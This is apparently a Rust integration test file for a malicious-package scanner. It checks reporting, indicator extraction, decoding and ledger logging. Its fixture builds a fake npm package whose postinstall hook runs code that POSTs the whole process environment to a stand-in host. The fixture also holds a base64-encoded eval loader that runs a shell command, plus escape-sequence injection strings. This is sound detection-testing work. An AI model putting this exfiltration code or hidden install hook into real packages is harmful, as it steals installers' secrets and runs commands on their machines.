//! Reports as the program writes them: from a package and a ledger to what is sent.

use std::fs;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::sync::Arc;
use std::time::Duration;

use cerebro::behavior::Reading;
use cerebro::case::Case;
use cerebro::ledger::{IndicatorRole, Label, Labelled, Ledger, MarkedSpan, RoleSet, SpanRole};
use cerebro::package::{OpenOptions, open};
use cerebro::syntax::Doc;
use cerebro::text::Span;
use rstest::rstest;
use serde_json::Value;
use tempfile::TempDir;

use crate::common::constant_model::model;

const CODE: &str = "const https = require('https');\nconst r = https.request('https://collect.example.net/in', { method: 'POST' });\n\
                    r.write(JSON.stringify(process.env));\nr.end();\n";
/// Decoded: `require('child_process').execSync('whoami')`.
const LOADER: &str =
    "eval(Buffer.from('cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWNTeW5jKCd3aG9hbWknKQ==', 'base64').toString());\n";

fn run(folder: &TempDir, args: &[&str]) -> Output {
    let mut command = Command::new(env!("CARGO_BIN_EXE_cerebro"));
    command.current_dir(folder).env("XDG_DATA_HOME", folder.path().join("data")).stdin(Stdio::null());
    command.env("CEREBRO_CONFIG", folder.path()).env("CEREBRO_MODEL", model(folder.path(), 4.0));
    for name in ["CEREBRO_LEDGER", "CEREBRO_ACTOR", "CEREBRO_LOG", "CEREBRO_SANDBOX"] {
        command.env_remove(name);
    }
    command.args(args).output().unwrap()
}

fn stdout(output: &Output) -> &str {
    std::str::from_utf8(&output.stdout).unwrap()
}

#[track_caller]
fn done(output: &Output) -> &str {
    assert_eq!(output.status.code(), Some(0), "{}", String::from_utf8_lossy(&output.stderr));
    stdout(output)
}

/// A package that sends the environment away when it is installed, under a hostile name.
fn sender(folder: &TempDir) -> PathBuf {
    let root = folder.path().join("sender");
    fs::create_dir_all(&root).unwrap();
    let manifest = "{\"name\":\"acme-sender\",\"version\":\"1.2.3\",\"description\":\"\\u001b[2J\\u202e<script>\",\
                    \"scripts\":{\"postinstall\":\"node send.js\"}}";
    fs::write(root.join("package.json"), manifest).unwrap();
    fs::write(root.join("send.js"), format!("{CODE}{LOADER}")).unwrap();
    root
}

/// Labels the package, and marks a text of it.
fn decide(folder: &TempDir, package: &Path, label: Label, marked: Option<&str>) {
    let package = open(package, &OpenOptions::default()).unwrap();
    let case = Case::read(Arc::new(package), Duration::ZERO, &Reading::default());
    let mut ledger = Ledger::open(&folder.path().join("data/cerebro/ledger.sqlite"), "ann").unwrap();
    if let Some(text) = marked {
        let mut docs = (0..case.package.files.len()).map(Doc::File);
        let (doc, start) = docs.find_map(|doc| Some((doc, case.source(doc)?.text.find(text)?))).unwrap();
        let span = Span { start, end: start + text.len() };
        ledger.mark(MarkedSpan::new(&case, doc, span, SpanRole::Exfil, "\u{1b}[2Jsends it").unwrap()).unwrap();
    }
    ledger.label(Labelled::new(&case, label, None, "7")).unwrap();
}

#[test]
fn a_report_accuses_only_what_is_labelled_and_marked() {
    let folder = TempDir::new().unwrap();
    let package = sender(&folder);
    let refused = |format: &str| {
        let output = run(&folder, &["report", "sender", "--format", format]);
        assert_eq!((output.status.code(), stdout(&output)), (Some(2), ""), "{format}");
        String::from_utf8(output.stderr).unwrap()
    };
    assert!(refused("osv").contains("has no label"));
    let text = run(&folder, &["report", "sender"]);
    assert!(done(&text).contains("| decided | not yet |"), "{}", stdout(&text));
    // Looking at it makes no ledger.
    assert!(!folder.path().join("data").exists());
    decide(&folder, &package, Label::Malicious, None);
    for format in ["markdown", "osv", "npm", "misp", "stix"] {
        assert!(refused(format).contains("no line of it is marked"), "{format}");
    }
    assert!(refused("pypi").contains("no line of it is marked"));
    decide(&folder, &package, Label::Benign, Some("r.write"));
    assert!(refused("npm").contains("is labelled benign"));
}

#[test]
fn every_format_is_written_and_acts_on_no_terminal() {
    let folder = TempDir::new().unwrap();
    let package = sender(&folder);
    decide(&folder, &package, Label::Malicious, Some("r.write(JSON.stringify(process.env))"));
    let config =
        "reporter = \"Example Team\"\ncontact = \"triage@example.com\"\ninspector = \"https://inspect.example.com\"\n";
    fs::write(folder.path().join("config.toml"), config).unwrap();
    for format in ["markdown", "osv", "sarif", "npm", "misp", "stix"] {
        let output = run(&folder, &["report", "sender", "--format", format]);
        let text = done(&output);
        assert!(!text.chars().any(|c| (c.is_control() && c != '\n') || c == '\u{202e}'), "{format}: {text:?}");
        assert!(text.contains("send.js"), "{format}: {text}");
        // What the model said is in no report for a registry.
        if !["markdown", "sarif", "npm"].contains(&format) {
            let json: Value = serde_json::from_str(text).unwrap();
            assert!(json.to_string().contains("collect.example.net"), "{format}: {json}");
        }
        assert_eq!(
            done(&run(&folder, &["report", "sender", "--format", format])),
            text,
            "{format}: not the same again"
        );
        let path = format!("out.{format}");
        assert_eq!(done(&run(&folder, &["report", "sender", "--format", format, "--out", &path])), "");
        assert_eq!(fs::read_to_string(folder.path().join(path)).unwrap(), text);
    }
    let record: Value = serde_json::from_str(stdout(&run(&folder, &["report", "sender", "--format", "osv"]))).unwrap();
    assert_eq!(record["credits"][0]["name"], "Example Team");
    assert_eq!(record["credits"][0]["contact"][0], "mailto:triage@example.com");
    assert_eq!(record["affected"][0]["versions"][0], "1.2.3");
    assert_eq!(record["database_specific"]["iocs"]["domains"][0], "collect.example.net");
    let draft = run(&folder, &["report", "sender", "--format", "npm"]);
    assert!(
        stdout(&draft).starts_with("name: Example Team\ne-mail: triage@example.com\npackage: acme-sender\n"),
        "{}",
        stdout(&draft)
    );
    let misused = run(&folder, &["report", "sender", "--ioc-files"]);
    assert!(String::from_utf8_lossy(&misused.stderr).contains("goes with --format osv"));
}

#[test]
fn a_scan_as_sarif_is_one_log_with_a_run_for_each_package() {
    let folder = TempDir::new().unwrap();
    sender(&folder);
    let output = run(&folder, &["scan", "sender", "missing.tgz", "sender", "--format", "sarif"]);
    assert_eq!(output.status.code(), Some(1), "{}", String::from_utf8_lossy(&output.stderr));
    let log: Value = serde_json::from_str(stdout(&output)).unwrap();
    assert_eq!(log["version"], "2.1.0");
    let runs = log["runs"].as_array().unwrap();
    let paths: Vec<&str> = runs.iter().map(|run| run["properties"]["path"].as_str().unwrap()).collect();
    assert_eq!(paths, ["sender", "missing.tgz", "sender"]);
    assert_eq!(runs[0]["properties"]["verdict"], "malicious");
    assert_eq!(runs[1]["invocations"][0]["executionSuccessful"], false);
    assert!(runs[0]["results"].as_array().unwrap().iter().any(|result| {
        let place = &result["locations"][0]["physicalLocation"];
        result["ruleId"] == "behavior/X11" && result["level"] == "error" && place["region"]["startLine"] == 3
    }));
    let none = run(&folder, &["scan", "missing.tgz", "--format", "sarif"]);
    assert_eq!(serde_json::from_str::<Value>(stdout(&none)).unwrap()["runs"].as_array().unwrap().len(), 1);
}

#[rstest]
#[case("json", "\"defanged\":\"hxxps://collect[.]example[.]net/in\"")]
#[case("csv", "exfil (found),url,hxxps://collect[.]example[.]net/in")]
#[case("misp", "\"type\":\"url\"")]
fn indicators_are_printed(#[case] format: &str, #[case] holds: &str) {
    let folder = TempDir::new().unwrap();
    sender(&folder);
    let output = run(&folder, &["iocs", "sender", "--format", format]);
    assert!(done(&output).contains(holds), "{}", stdout(&output));
    if format == "csv" {
        assert!(!stdout(&output).contains("https://"), "{}", stdout(&output));
    }
}

#[test]
fn layers_are_printed_as_text() {
    let folder = TempDir::new().unwrap();
    sender(&folder);
    let output = run(&folder, &["decode", "sender"]);
    assert!(done(&output).contains("require('child_process').execSync('whoami')"), "{}", stdout(&output));
    let json: Value = serde_json::from_str(done(&run(&folder, &["decode", "sender", "--format", "json"]))).unwrap();
    let texts: Vec<&str> =
        json["layers"].as_array().unwrap().iter().map(|layer| layer["text"].as_str().unwrap()).collect();
    assert!(texts.contains(&"require('child_process').execSync('whoami')"), "{texts:?}");
    fs::write(folder.path().join("sender/send.js"), "console.log(1);\n").unwrap();
    assert_eq!(done(&run(&folder, &["decode", "sender"])), "nothing in the package is decoded\n");
}

#[test]
fn the_log_is_printed_event_by_event() {
    let folder = TempDir::new().unwrap();
    let package = sender(&folder);
    decide(&folder, &package, Label::Malicious, Some("r.write"));
    let path = folder.path().join("data/cerebro/ledger.sqlite");
    let mut ledger = Ledger::open(&path, "bob\u{1b}[2J").unwrap();
    let value = "https://collect.example.net/in".to_owned();
    let role = Some(IndicatorRole::Exfil);
    ledger.set_role(RoleSet { sha256: "5a".to_owned(), indicator: "url".to_owned(), value, role }).unwrap();
    ledger.undo().unwrap();
    ledger.redo().unwrap();
    drop(ledger);
    let output = run(&folder, &["ledger", "log"]);
    let lines: Vec<&str> = done(&output).lines().collect();
    let expected = [
        "ann  mark exfil at send.js:3",
        "ann  label malicious for acme-sender 1.2.3",
        "bob␛[2J  role exfil for url hxxps://collect[.]example[.]net/in",
        "bob␛[2J  event 3 taken back",
        "bob␛[2J  event 4 taken back no more",
    ];
    assert_eq!(lines.len(), expected.len(), "{lines:?}");
    for (line, end) in lines.iter().zip(expected) {
        assert!(line.ends_with(end), "{line} does not end with {end}");
    }
    let rows: Vec<Value> = done(&run(&folder, &["ledger", "log", "--format", "jsonl"]))
        .lines()
        .map(|line| serde_json::from_str(line).unwrap())
        .collect();
    assert_eq!(rows.len(), 5);
    assert_eq!(rows[1]["previous"], rows[0]["hash"]);
    let shown: Value = serde_json::from_str(done(&run(&folder, &["ledger", "show", "2"]))).unwrap();
    assert_eq!(shown, rows[1]);
    let missing = run(&folder, &["ledger", "show", "9"]);
    assert_eq!(missing.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&missing.stderr).contains("there is no event 9: the ledger has 5 events"));
}
